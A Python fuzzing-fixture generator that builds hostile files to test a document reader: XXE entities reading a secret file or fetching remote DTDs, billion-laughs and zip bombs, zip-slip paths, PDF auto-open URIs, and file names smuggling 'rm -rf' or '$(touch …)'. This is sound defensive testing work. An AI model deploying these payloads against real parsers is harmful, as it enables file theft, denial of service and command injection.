"""Files that are made to break a reader: the same for the same number and seed."""

from __future__ import annotations

import base64
import io
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from enum import Enum
from functools import cache, partial
from itertools import islice
from pathlib import Path

from hostile_seeds import SEEDS, docx, html, odt, pdf, pdf_of, stream, xml, zipped

sys.path.append(str(Path(__file__).parents[1] / "reading" / "pdf"))  # of the tests that make sound PDF files

from made_pdf import lines, make_pdf

__all__ = ["GOOD", "Hostile", "Kind", "Surroundings", "hostile_files"]

GOOD = "goed"  # what the names of sound papers begin with, which must be read whatever stands beside them
_EVERY = 12  # files of which one is sound
_DEEP = 100_000  # elements in one another
_MANY = 12_000  # more than the files that an archive may hold


class Kind(Enum):
    """What is put on the disk."""

    FILE = "file"
    LINK = "link"
    PIPE = "pipe"
    SOCKET = "socket"
    SPARSE = "sparse"


@dataclass(frozen=True, slots=True)
class Hostile:
    """What to put on the disk under a name, which may be no text: bytes, the target of a link, a size in digits."""

    name: bytes
    content: bytes = b""
    kind: Kind = Kind.FILE


@dataclass(frozen=True, slots=True)
class Surroundings:
    """What hostile files reach for: a web address, a file whose content must not come out, a file not to be written."""

    address: str
    secret: str
    outside: str


def hostile_files(
    number: int, seed: int, around: Surroundings, papers: Mapping[str, bytes] = SEEDS
) -> Iterator[Hostile]:
    """Yield so many files: first each attack that is known, then sound papers damaged at random.

    `papers` are those that are damaged, by name; one in so many is left sound, and its name begins with GOOD.
    """
    yield from islice(_all(seed, around, papers), number)


def _all(seed: int, around: Surroundings, papers: Mapping[str, bytes]) -> Iterator[Hostile]:
    chance = random.Random(seed)  # noqa: S311  (the same each time is what is wanted)
    for count, file in enumerate(_each(chance, around, papers)):
        if count % _EVERY == 0:
            yield _sound(count)
        yield file


def _sound(count: int) -> Hostile:
    """Return a paper that is read in the process of the command, or one that needs a parser, in turn."""
    words = f"Zie Kamerstuk 36 045, nr. {count % 300 + 1}."
    if count % (2 * _EVERY):
        return Hostile(f"{GOOD}-{count}.txt".encode(), f"{words}\n".encode())
    return Hostile(f"{GOOD}-{count}.pdf".encode(), make_pdf(lines(80, 100, words)))


def _each(chance: random.Random, around: Surroundings, papers: Mapping[str, bytes]) -> Iterator[Hostile]:
    yield from _odd_names()
    yield from _no_files(around)
    yield from _descriptions(around)
    for name, make in _contents(around).items():
        yield Hostile(name.encode(), make())
    names = sorted(papers)
    count = 0
    while True:
        count += 1
        name = chance.choice(names)
        stem, _, suffix = name.rpartition(".")
        other = chance.choice(names).rpartition(".")[2] if chance.random() < 0.2 else suffix
        how, data = damaged(chance, papers[name], papers[chance.choice(names)])
        yield Hostile(f"{how}-{count}-{stem[-60:]}.{other}".encode(), data)


# --- names, and what is no file --------------------------------------------------------------------------------------


def _odd_names() -> Iterator[Hostile]:
    text = SEEDS[".txt"]
    names = (
        b"twee\nregels.txt", b"\x1b[31mrood\x07.txt", b"nul\\0.txt", b"\xff\xfe\x80.txt", b"rechts\xe2\x80\xaetxt.",
        b"x" * 251 + b".txt", b"-o.txt", b"--help.txt", b"<script>alert(1)</script>.txt", b"a\\..\\..\\terug.txt",
        b"%2e%2e%2fterug.txt", b"'; rm -rf x;'.txt", b"$(touch aangeroepen).txt", b"spatie .txt ", b"e\xcc\x81n.txt",
        b"tabel\ttab.txt", b"brief.txt.", b"brief.exe", b"brief.", "\U0001f3e0.txt".encode(), b"NUL.txt", b"\x7f.txt",
        b"/".join([b"map"] * 60) + b"/diep.txt", b"map\n\xff/brief.txt", b"lang/" * 3 + b"y" * 255, b"{id}%s.txt",
    )  # fmt: skip
    for name in names:
        yield Hostile(name, text)


def _no_files(around: Surroundings) -> Iterator[Hostile]:
    links = (b"zichzelf.txt", b"/etc/passwd", b"/dev/zero", b"..", b"nergens.txt", b".", around.secret.encode())
    for number, target in enumerate(links):
        yield Hostile(b"wijzer-%d.txt" % number if target != b"zichzelf.txt" else target, target, Kind.LINK)
    yield Hostile(b"heen.txt", b"weer.txt", Kind.LINK)
    yield Hostile(b"weer.txt", b"heen.txt", Kind.LINK)
    for suffix in (b".txt", b".pdf"):
        yield Hostile(b"buis" + suffix, kind=Kind.PIPE)
        yield Hostile(b"contact" + suffix, kind=Kind.SOCKET)
        yield Hostile(b"ijl" + suffix, b"1000000000", Kind.SPARSE)
    yield Hostile(b"ijl-onder-de-grens.txt", b"60000000", Kind.SPARSE)


def _descriptions(around: Surroundings) -> Iterator[Hostile]:
    """Yield sound papers, each beside a description that is none; those descriptions are no papers themselves."""
    bad = {name: xml("<al>&x;</al>", before) for name, before in _entities(around).items()}
    bad |= {
        "leeg": b"",
        "diep": xml("<al>" * _DEEP),
        "nullen": bytes(1000),
        "lang": b"<metadata_gegevens>" + b"x" * 5_000_000,
    }
    for name, content in bad.items():
        yield Hostile(f"{GOOD}-bij-{name}.txt".encode(), SEEDS[".txt"])
        yield Hostile(f"{GOOD}-bij-{name}.metadata.xml".encode(), content)
    for name, kind in (("buis", Kind.PIPE), ("wijzer", Kind.LINK)):
        yield Hostile(f"{GOOD}-bij-{name}.txt".encode(), SEEDS[".txt"])
        yield Hostile(f"{GOOD}-bij-{name}.metadata.xml".encode(), around.secret.encode(), kind)


# --- what files hold -------------------------------------------------------------------------------------------------


def _contents(around: Surroundings) -> dict[str, Callable[[], bytes]]:
    """Return by name what makes the content of each attack."""
    return {**_text(), **_wrong(), **_xml(around), **_html(around), **_zip(around), **_pdf(around)}


def _wrong() -> dict[str, Callable[[], bytes]]:
    return {
        f"als{suffix}{other}": partial(bytes, data)
        for suffix, data in SEEDS.items()
        for other in SEEDS
        if other != suffix
    }


def _text() -> dict[str, Callable[[], bytes]]:
    return {
        "leeg.txt": lambda: b"",
        "leeg.pdf": lambda: b"",
        "leeg.docx": lambda: b"",
        "leeg.xml": lambda: b"",
        "leeg.html": lambda: b"",
        "merkteken.txt": lambda: b"\xef\xbb\xbf",
        "spaties.txt": lambda: b" " * 3_000_000,
        "regels.txt": lambda: b"\n" * 2_000_000,
        "een-regel.txt": lambda: b"Kamerstuk 36 045, nr. 1 " * 1_000,
        "nullen.txt": lambda: b"\x00" * 100_000,
        "nul-achteraan.txt": lambda: b"brief " * 100_000 + b"\x00",
        "utf-16-half.txt": lambda: b"\xff\xfeB\x00r",
        "utf-32.txt": lambda: "Brief van de minister".encode("utf-32"),
        "utf-7.txt": lambda: b"+ADw-script+AD4-",
        "te-lang-utf-8.txt": lambda: b"\xc0\xaf\xe0\x80\xaf brief",
        "surrogaten.txt": lambda: b"brief \xed\xa0\x80\xed\xb0\x80 van de minister",
        "stapel-accenten.txt": lambda: ("a" + "\u0301" * 100_000).encode(),
        "omgekeerd.txt": lambda: "\u202e\u2066 Kamerstuk 36 045, nr. 1\u202c".encode() * 1000,
        "stuurtekens.txt": lambda: b"\x1b]0;titel\x07\x1b[2J Kamerstuk 36 045, nr. 1",
        "escape.txt": lambda: b"\x1b[31m Kamerstuk 36 045, nr. 1, zie www.a.nl/\x1b[0m <script>alert(1)</script>",
        "vormen.txt": lambda: b"\x0c" * 200_000,
    }


def _entities(around: Surroundings) -> dict[str, str]:
    """Return declarations of a document type by what they do; all define an entity x."""
    laughs = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    parameter = f'<!ENTITY % b SYSTEM "{around.address}/b.dtd">%b;<!ENTITY x "x">'
    return {
        "lachen": f'<!DOCTYPE d [{laughs}<!ENTITY x "&a9;">]>',
        "kwadraat": f'<!DOCTYPE d [<!ENTITY x "{"x" * 100_000}">]>',
        "kring": '<!DOCTYPE d [<!ENTITY x "&y;"><!ENTITY y "&x;">]>',
        "bestand": f'<!DOCTYPE d [<!ENTITY x SYSTEM "file://{around.secret}">]>',
        "web": f'<!DOCTYPE d [<!ENTITY x SYSTEM "{around.address}/x">]>',
        "parameter": f"<!DOCTYPE d [{parameter}]>",
        "dtd": f'<!DOCTYPE d SYSTEM "{around.address}/d.dtd">',
        "dtd-bestand": f'<!DOCTYPE d SYSTEM "file://{around.secret}">',
        "kaal": "<!DOCTYPE d>",
    }


def _xml(around: Surroundings) -> dict[str, Callable[[], bytes]]:
    made: dict[str, Callable[[], bytes]] = {
        f"entiteit-{name}.xml": partial(xml, "<al>&x;</al>" * 1000, before)
        for name, before in _entities(around).items()
    }
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{around.secret}" parse="text"/>'
    return made | {
        "insluiten.xml": lambda: xml(f"<al>{include}</al>"),
        "stijlblad.xml": lambda: xml(before=f'<?xml-stylesheet type="text/xsl" href="{around.address}/s.xsl"?>'),
        "diep.xml": lambda: xml("<al>" * _DEEP + "x" + "</al>" * _DEEP),
        "diep-open.xml": lambda: xml("<al>" * _DEEP),
        "breed.xml": lambda: xml("<al/>" * _MANY),
        "attributen.xml": lambda: xml("<al " + " ".join(f'a{n}="x"' for n in range(_MANY)) + "/>"),
        "attribuut.xml": lambda: xml(f'<al a="{"x" * 11_000_000}">x</al>'),
        "naam.xml": lambda: xml(f"<{'a' * 100_000}/>"),
        "naamruimten.xml": lambda: xml("".join(f'<a xmlns:n{n}="u{n}">' for n in range(2000)) + "</a>" * 2000),
        "opmerking.xml": lambda: xml("<!--" + "x" * 5_000_000 + "-->"),
        "cdata.xml": lambda: xml("<al><![CDATA[" + "<al>" * 100_000 + "]]></al>"),
        "lange-tekst.xml": lambda: xml("<al>" + "De Wet A. " * 100_000 + "</al>"),
        "noten.xml": lambda: xml(
            "".join(f'<al>A<noot id="n{n}"><noot.al>B</noot.al></noot></al>' for n in range(5000))
        ),
        "codering.xml": lambda: b'<?xml version="1.0" encoding="bestaat-niet"?><d>x</d>',
        "utf-16.xml": lambda: "<?xml version='1.0' encoding='utf-16'?><d>brief</d>".encode("utf-16-le"),
        "leeg-element.xml": lambda: b"<?xml version='1.0'?><d/>",
        "alleen-kop.xml": lambda: b"<?xml version='1.0'?>",
        "tekens.xml": lambda: xml("<al>&#0;&#x1F;&#x110000;&#xD800;&nbsp;</al>"),
        "verwijzing.xml": lambda: xml(f'<al><extref doc="{around.address}/x" soort="document">x</extref></al>'),
        "verwijzing-bestand.xml": lambda: xml(f'<al><extref doc="file://{around.secret}">x</extref></al>'),
    }


def _html(around: Surroundings) -> dict[str, Callable[[], bytes]]:
    reach = "".join(
        f"<{element}>"
        for element in (
            f'base href="{around.address}/"', f'img src="{around.address}/i"', f'iframe src="{around.address}/f"',
            f'script src="{around.address}/s"></script', f'link rel="stylesheet" href="{around.address}/c"',
            f'meta http-equiv="refresh" content="0;url={around.address}/r"', f'object data="file://{around.secret}"',
            f'video src="{around.address}/v"', f'embed src="file://{around.secret}"',
        )
    )  # fmt: skip
    return {
        "web.html": lambda: html(reach + "<script>alert('Kamerstuk 36 045, nr. 1')</script>", reach),
        "diep.html": lambda: html("<div>" * _DEEP + "x" + "</div>" * _DEEP),
        "diep-open.html": lambda: html("<b><i>" * _DEEP),
        "tabellen.html": lambda: html("<table><tr><td>" * (_DEEP // 3)),
        "lijsten.html": lambda: html("<ul><li>" * (_DEEP // 2)),
        "gekruist.html": lambda: html("<a><b>x</a></b>" * 10_000),
        "attributen.html": lambda: html("<p " + " ".join(f"a{n}=x" for n in range(_MANY)) + ">x</p>"),
        "open-opmerking.html": lambda: html("<!--" + "x" * 1_000_000),
        "open-script.html": lambda: html("<script>" + "<" * 1_000_000),
        "hoekjes.html": lambda: html("<" * 300_000),
        "en-tekens.html": lambda: html("&" * 300_000 + "&#x110000;&#0;&nbsp"),
        "leeg-lijf.html": lambda: html(""),
        "alleen-script.html": lambda: html("<script>1</script><style>p{}</style>"),
        "entiteiten.html": lambda: _entities(around)["lachen"].encode() + html("&x;"),
    }


def _pdf(around: Surroundings) -> dict[str, Callable[[], bytes]]:
    catalogue = b"<< /Type /Catalog /Pages 2 0 R >>"
    pages = b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources 5 0 R >>"
    font = b"<< /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"

    def one_page(content: bytes, resources: bytes = font, more: tuple[bytes, ...] = (), extra: bytes = b"") -> bytes:
        return pdf_of([catalogue, pages, page, content, resources, *more], extra)

    def bomb(filters: int) -> bytes:
        data = _spaces()[0]
        for _ in range(filters - 1):
            data = zlib.compress(data)
        return one_page(stream(data, b"/Filter [" + b"/FlateDecode " * filters + b"]"))

    form = stream(
        b"/X Do /X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    )
    image = stream(b"\xff" * 100, b"/Type /XObject /Subtype /Image /Width 10 /Height 10 /ColorSpace /DeviceGray "
                                  b"/BitsPerComponent 8")  # fmt: skip
    vast = image.replace(b"/Width 10 /Height 10", b"/Width 100000 /Height 100000")
    show = stream(b"q 500 0 0 800 40 20 cm /X Do Q")
    drawn = b"<< /XObject << /X 6 0 R >> >>"
    launch = f"/OpenAction << /S /URI /URI ({around.address}/pdf) >>".encode()
    hello = stream(b"BT /F 11 Tf 60 760 Td (Kamerstuk 36 045, nr. 1) Tj ET")
    many_words = stream(b"BT /F 1 Tf " + b"0 1 Td (x) Tj " * 150_000 + b"ET")
    return {
        "bladzijden.pdf": lambda: pdf(10_000),
        "geen-bladzijde.pdf": lambda: pdf(0),
        "kring-van-bladen.pdf": lambda: pdf_of([catalogue, b"<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R] >>"]),
        "kring-van-ouders.pdf": lambda: pdf_of([catalogue, pages.replace(b"/Count", b"/Parent 2 0 R /Count"), page]),
        "kring-van-lengte.pdf": lambda: one_page(b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream"),
        "kring-van-vormen.pdf": lambda: one_page(show, drawn, (form,)),
        "kring-van-tabellen.pdf": lambda: pdf_of([catalogue, pages, page, hello, font], b"/Prev 9"),
        "kring-van-catalogus.pdf": lambda: pdf_of([b"1 0 R"]),
        "veel-bladen-beloofd.pdf": lambda: pdf_of(
            [catalogue, pages.replace(b"Count 1", b"Count 2000000000"), page, hello, font]
        ),
        "bom.pdf": lambda: bomb(1),
        "bom-in-bom.pdf": lambda: bomb(3),
        "diep.pdf": lambda: pdf_of([catalogue, pages, b"[" * _DEEP + b"]" * _DEEP]),
        "diep-in-inhoud.pdf": lambda: one_page(stream(b"[" * _DEEP + b"<<" * _DEEP)),
        "stapel.pdf": lambda: one_page(stream(b"q " * 500_000)),
        "veel-woorden.pdf": lambda: one_page(many_words),
        "lange-regel.pdf": lambda: one_page(stream(b"BT /F 11 Tf (" + b"a " * 200_000 + b") Tj ET")),
        "op-slot.pdf": lambda: one_page(hello, extra=b"/Encrypt << /Filter /Standard /V 4 /R 4 /O (x) /U (y) /P -4 >>"),
        "op-slot-kring.pdf": lambda: one_page(hello, extra=b"/Encrypt 6 0 R", more=(b"6 0 R",)),
        "gescand.pdf": lambda: one_page(show, drawn, (image,)),
        "reuzenbeeld.pdf": lambda: one_page(show, drawn, (vast,)),
        "reuzenblad.pdf": lambda: pdf_of([catalogue, pages, page.replace(b"595 842", b"1e30 -1e30"), hello, font]),
        "start.pdf": lambda: pdf_of([catalogue.replace(b"/Type", launch + b" /Type"), pages, page, hello, font]),
        "alleen-begin.pdf": lambda: b"%PDF-1.7",
        "geen-einde.pdf": lambda: pdf(3)[:-200],
        "rommel-vooraf.pdf": lambda: b"x" * 900 + pdf(1),
        "twee.pdf": lambda: pdf(1) + pdf(2),
        "grote-tabel.pdf": lambda: pdf(1).replace(b"xref\n0 6", b"xref\n0 4000000000"),
        "negatief.pdf": lambda: pdf(1).replace(b"/Length ", b"/Length -"),
    }


def _zip(around: Surroundings) -> dict[str, Callable[[], bytes]]:
    made: dict[str, Callable[[], bytes]] = {}
    for name, before in _entities(around).items():
        content = xml("<al>&x;</al>" * 1000, before)
        made[f"entiteit-{name}.docx"] = partial(docx, None, {"word/document.xml": content})
        made[f"entiteit-{name}.odt"] = partial(odt, None, {"content.xml": content})
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" TargetMode="External" '
        'Target="{}"/></Relationships>'
    )
    outside = ("../uitgebroken.txt", "../../../uitgebroken.txt", around.outside, "a\\..\\..\\b")
    out: dict[str, str | bytes] = dict.fromkeys(outside, "uitgebroken")
    return made | {
        "bom.docx": lambda: _bomb("word/document.xml", docx()),
        "bom.odt": lambda: _bomb("content.xml", odt()),
        "bom-elders.docx": lambda: _bomb("word/media/image1.png", docx()),
        "verzwegen-bom.docx": lambda: _lying(_bomb("word/document.xml", docx())),
        "bom-in-bom.docx": lambda: docx(None, {"word/document.xml": _bomb("a.zip", zipped({}))}),
        "bom-in-bom.odt": lambda: odt(None, {"a.zip": _bomb("b", zipped({})), "b.zip": _bomb("c", zipped({}))}),
        "veel-delen.docx": lambda: docx(None, {f"word/{n}.xml": "" for n in range(_MANY)}),
        "veel-delen.odt": lambda: odt(None, {f"{n}.xml": "" for n in range(_MANY)}),
        "overlap.docx": lambda: _overlapping(docx(), 50),
        "uitbreken.docx": lambda: docx(None, out),
        "uitbreken.odt": lambda: odt(None, out),
        "hoofddeel-buiten.docx": lambda: docx(None, {"_rels/.rels": relation.format("officeDocument", "../../secret")}),
        "hoofddeel-op-het-web.docx": lambda: docx(
            None, {"_rels/.rels": relation.format("officeDocument", around.address)}
        ),
        "sjabloon.docx": lambda: docx(
            None, {"word/_rels/settings.xml.rels": relation.format("attachedTemplate", around.address)}
        ),
        "macro.docx": lambda: docx(None, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"Auto_Open" * 100}),
        "geen-hoofddeel.docx": lambda: zipped({"mimetype": "x", "word/styles.xml": "<a/>"}),
        "geen-inhoud.odt": lambda: zipped({"mimetype": "application/vnd.oasis.opendocument.text"}),
        "leeg-archief.docx": lambda: zipped({}),
        "diep.docx": lambda: docx("<w:p>" * _DEEP + "</w:p>" * _DEEP),
        "diep.odt": lambda: odt("<text:p>" * _DEEP + "</text:p>" * _DEEP),
        "herhaald.odt": lambda: odt('<text:p>a<text:s text:c="2000000000"/>b</text:p>'),
        "tabel.odt": lambda: odt(
            '<table:table xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><table:table-row '
            'table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="1000000000">'
            "<text:p>a</text:p></table:table-cell></table:table-row></table:table>"
        ),
        "noten-kring.docx": lambda: docx(
            '<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>',
            {"word/footnotes.xml": '<w:footnotes><w:footnote w:id="1"><w:footnoteReference w:id="1"/></w:footnote>'},
        ),
        "op-slot.docx": lambda: docx().replace(b"PK\x03\x04\x14\x00\x00\x00", b"PK\x03\x04\x14\x00\x01\x00").replace(
            b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00"
        ),
        "oud-word.doc": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
        "op-slot-in-ole.docx": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
        "brief.rtf": lambda: b"{\\rtf1 {\\object\\objdata " + base64.b16encode(bytes(1000)) + b"}}",
        "plat.fodt": lambda: xml("<al>&x;</al>", _entities(around)["bestand"]),
        "pdf-en-zip.pdf": lambda: pdf(1) + docx(),
        "pdf-en-zip.docx": lambda: pdf(1) + docx(),
    }  # fmt: skip


@cache
def _spaces() -> tuple[bytes, int, int]:
    """Return 210 MB of spaces as zlib squeezes them, with their checksum and their number."""
    squeeze = zlib.compressobj(9)
    some = b" " * 1_000_000
    checksum = 0
    out = []
    for _ in range(210):
        out.append(squeeze.compress(some))
        checksum = zlib.crc32(some, checksum)
    return b"".join([*out, squeeze.flush()]), checksum, 210 * len(some)


def _bomb(name: str, archive: bytes) -> bytes:
    """Return a zip in which the part of a name is 210 MB of spaces."""
    archive = zipped({part: content for part, content in _parts(archive).items() if part != name})
    squeezed, checksum, size = _spaces()
    data = squeezed[2:-4]  # a zip has the same without head and foot
    end = archive.index(b"PK\x05\x06")
    start = archive.index(b"PK\x01\x02") if b"PK\x01\x02" in archive else end
    told = struct.pack("<HHHHIIIHH", 0, 8, 0, 33, checksum, len(data), size, len(name), 0)
    part = b"PK\x03\x04" + struct.pack("<H", 20) + told + name.encode() + data
    entry = b"PK\x01\x02" + struct.pack("<HH", 20, 20) + told + struct.pack("<HHHII", 0, 0, 0, 0, start) + name.encode()
    return archive[:start] + part + _directory(archive[start:end] + entry, start + len(part))


def _directory(entries: bytes, start: int) -> bytes:
    """Return the end of a zip: its directory, which stands at that place."""
    number = entries.count(b"PK\x01\x02")
    return entries + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, number, number, len(entries), start, 0)


def _parts(archive: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(archive)) as file:
        return {name: file.read(name) for name in file.namelist()}


def _lying(archive: bytes) -> bytes:
    """Return a zip whose directory says of each part that it is 100 bytes large."""
    out = bytearray(archive)
    place = out.find(b"PK\x01\x02")
    while place >= 0:
        out[place + 24 : place + 28] = struct.pack("<I", 100)
        place = out.find(b"PK\x01\x02", place + 4)
    return bytes(out)


def _overlapping(archive: bytes, times: int) -> bytes:
    """Return a zip whose directory names each part many times, at the same place."""
    start, end = archive.index(b"PK\x01\x02"), archive.index(b"PK\x05\x06")
    return archive[:start] + _directory(archive[start:end] * times, start)


# --- damage ----------------------------------------------------------------------------------------------------------


def damaged(chance: random.Random, data: bytes, other: bytes) -> tuple[str, bytes]:
    """Return what was done to the bytes with the outcome; of a zip it is mostly done to a part that it holds."""
    how = chance.choice(sorted(_DAMAGE))
    if data.startswith(b"PK") and chance.random() < 0.7:
        try:
            parts = _parts(data)
        except (zipfile.BadZipFile, NotImplementedError, RuntimeError):
            parts = {}
        if parts:
            name = chance.choice(sorted(parts))
            parts[name] = _DAMAGE[how](chance, parts[name], other)
            return how, zipped(parts)
    return how, _DAMAGE[how](chance, data, other)


def _place(chance: random.Random, data: bytes) -> tuple[int, int]:
    first, last = sorted(chance.randint(0, len(data)) for _ in range(2))
    return first, last


def _flip(chance: random.Random, data: bytes, _other: bytes) -> bytes:
    out = bytearray(data)
    for _ in range(chance.randint(1, 32) if out else 0):
        out[chance.randrange(len(out))] ^= 1 << chance.randrange(8)
    return bytes(out)


def _cut(chance: random.Random, data: bytes, _other: bytes) -> bytes:
    return data[: chance.randint(0, len(data))]


def _hole(chance: random.Random, data: bytes, _other: bytes) -> bytes:
    first, last = _place(chance, data)
    return data[:first] + data[last:]


def _swap(chance: random.Random, data: bytes, _other: bytes) -> bytes:
    first, last = _place(chance, data)
    return data[last:] + data[first:last] + data[:first]


def _double(chance: random.Random, data: bytes, _other: bytes) -> bytes:
    first, last = _place(chance, data)
    return data[:last] + data[first:last] * chance.randint(1, 20) + data[last:]


def _blank(chance: random.Random, data: bytes, _other: bytes) -> bytes:
    first, last = _place(chance, data)
    return data[:first] + chance.choice((b"\x00", b"\xff", b" ")) * (last - first) + data[last:]


def _noise(chance: random.Random, data: bytes, _other: bytes) -> bytes:
    first, _ = _place(chance, data)
    return data[:first] + chance.randbytes(chance.randint(1, 500)) + data[first:]


def _splice(chance: random.Random, data: bytes, other: bytes) -> bytes:
    return data[: chance.randint(0, len(data))] + other[chance.randint(0, len(other)) :]


def _number(chance: random.Random, data: bytes, _other: bytes) -> bytes:
    """Put another number in the place of one that is written in digits, as lengths and places are in a PDF."""
    places = [place for place in range(len(data)) if 48 <= data[place] <= 57]
    if not places:
        return data
    place = chance.choice(places)
    return data[:place] + chance.choice((b"-1", b"0", b"99999999999", b"4294967295", b"1e400")) + data[place + 1 :]


_DAMAGE: dict[str, Callable[[random.Random, bytes, bytes], bytes]] = {
    "bits": _flip,
    "afgekapt": _cut,
    "gat": _hole,
    "verwisseld": _swap,
    "verdubbeld": _double,
    "gewist": _blank,
    "ruis": _noise,
    "geplakt": _splice,
    "getal": _number,
}
